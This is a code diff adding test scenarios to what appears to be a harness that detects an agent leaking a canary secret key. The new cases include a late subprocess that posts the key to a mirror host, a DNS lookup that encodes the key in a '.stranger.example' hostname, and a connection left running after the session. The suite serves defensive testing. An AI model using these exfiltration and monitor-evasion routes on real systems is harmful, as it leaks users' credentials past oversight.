@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import asyncio
 import os
+import socket
+import subprocess
+import sys
 import threading
 import time
 from base64 import b64encode
@@ -107,6 +110,49 @@ def _late_thread(stage: Stage) -> Run:
 
     with swapped(aftermath, "GRACE", SECONDS):
         return stage.drive(run)
+
+
+def _late_process(stage: Stage) -> Run:
+    stage.face.upstream(f"https://{MIRROR}").post("/").json({})
+    late = "import sys, time, urllib.request as u; time.sleep(0.3); u.urlopen(*sys.argv[1:2], sys.argv[2].encode())"
+
+    started: list[subprocess.Popen[bytes]] = []
+
+    def run(task: str) -> None:
+        agent()(task)
+        command = [sys.executable, "-c", late, f"https://{MIRROR}/", stage.key.value]
+        started.append(subprocess.Popen(command, stderr=subprocess.DEVNULL))
+
+    with swapped(aftermath, "GRACE", SECONDS):
+        try:
+            return stage.drive(run)
+        finally:
+            started[0].wait(SECONDS)
+
+
+def _waiting_for_an_answer(stage: Stage) -> Run:
+    release = threading.Event()
+    stage.face.upstream(f"http://{MIRROR}").get("/").respond(lambda call: {"late": release.wait(SECONDS)})
+    kept: list[object] = []
+
+    async def wait() -> None:
+        reader, writer = await asyncio.open_connection(MIRROR, 80)
+        writer.write(f"GET / HTTP/1.1\r\nhost: {MIRROR}\r\n\r\n".encode())
+        await reader.read()
+
+    async def run(task: str) -> None:
+        await asyncio.to_thread(agent(), task)
+        kept.append(asyncio.create_task(wait()))
+
+    try:
+        return stage.drive(run)
+    finally:
+        release.set()
+
+
+def _looked_up(stage: Stage) -> Run:
+    name = f"{stage.key.value[:30].replace('_', '-')}.stranger.example"
+    return stage.drive(beside(lambda: socket.gethostbyname(name)))
 
 
 def _after_the_drive(stage: Stage) -> Run:
@@ -219,6 +265,8 @@ WAYS: dict[str, Scene] = {
     "leaking another tenant's key": _leak(_other_tenant),
     "leaking from a task that is late": _leak(_late_task),
     "leaking from a thread that is late": _leak(_late_thread),
+    "leaking from a process that is late": _leak(_late_process),
+    "leaking in a name that is looked up": _leak(_looked_up),
     "leaking after the drive": _leak(_after_the_drive),
     "exposing a field": _leak(_field(allowed=False), "field-exposed"),
     "handing on an allowed field": Scene(_field(allowed=True), Verdict.CLEAN),
@@ -228,6 +276,7 @@ WAYS: dict[str, Scene] = {
     "copying the environment": Scene(_copied, code="canary-unobserved"),
     "asking without the key": Scene(_without_key, code="canary-not-used"),
     "leaving a variable unread": Scene(_unread, code="canary-not-read"),
+    "waiting for an answer under way": Scene(_waiting_for_an_answer, code="left-running"),
     "a tracer that is lost": Scene(_tracer_lost, code="control-missed"),
 }
 """What each way of leaking, and each that only looks like one, must come to."""
